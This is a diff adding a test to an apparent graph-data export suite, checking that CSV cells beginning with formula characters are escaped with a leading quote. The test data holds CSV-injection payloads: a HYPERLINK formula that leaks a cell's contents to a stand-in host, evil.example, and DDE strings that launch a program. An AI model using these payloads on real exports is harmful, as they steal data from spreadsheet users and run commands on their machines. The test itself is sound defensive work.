@@ -203,6 +203,29 @@ test('Export: CSV zip unpacks into nodes.csv and relationships.csv with one row 
   expect(relationships.find((r) => r.from === 'partner:test-export-quoting')).toMatchObject({ to: 'network:scn', type: 'PARTNER_OF', basis: 'SOURCE', evidence: TRICKY.excerpt });
 });
 
+test('Export: CSV cells starting like a formula (= + - @ tab CR) come out behind a single quote, quoted, and parse back to that text', async () => {
+  // One partner per dangerous first character, in the name, an alias, the description and the evidence (nodes.csv
+  // and relationships.csv); -2+3 would be a number to a spreadsheet, and none of the columns holds numbers.
+  const starts = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+  const partners = starts.map((text, i) => ({ id: `partner:test-formula-${i}`, name: text, aliases: [text, 'plain'], description: text, excerpt: text }));
+  // afterAll removes them with the other test entities.
+  await t.db.write('../test/cypher/create-test-partners', { partners });
+  const files = await unzip((await download('?format=csv')).body);
+  const nodes = parseCsv(files['nodes.csv'], { columns: true }) as Record<string, string>[];
+  const relationships = parseCsv(files['relationships.csv'], { columns: true }) as Record<string, string>[];
+  for (const { id, name } of partners) {
+    const neutralised = `'${name}`;
+    expect(nodes.find((n) => n.id === id)).toMatchObject({ name: neutralised, aliases: `${neutralised} | plain`, description: neutralised, evidence: neutralised });
+    expect(relationships.find((r) => r.from === id)).toMatchObject({ to: 'network:scn', evidence: neutralised });
+  }
+  // The raw text: the quote comes first inside the field's double quotes, so a spreadsheet shows the cell as text.
+  expect(files['nodes.csv']).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",`);
+  // Values that merely contain such characters, and ids, dates and codes, are untouched.
+  expect(nodes.find((n) => n.id === 'partner:test-export-quoting')?.name).toBe(TRICKY.name);
+  expect(nodes.find((n) => n.id === 'country:albania')).toMatchObject({ isoCode: 'AL' });
+  expect(nodes.every((n) => !n.id.startsWith("'") && !n.date.startsWith("'"))).toBe(true);
+});
+
 test('Export: a neighbourhood holds the entities within depth hops and the relationships among them', async () => {
   const one = await jsonExport('?format=json&id=workshop:western-balkans-durres-2017&depth=1');
   const depth1 = new Set(one.graph.nodes.map((n) => n.id));
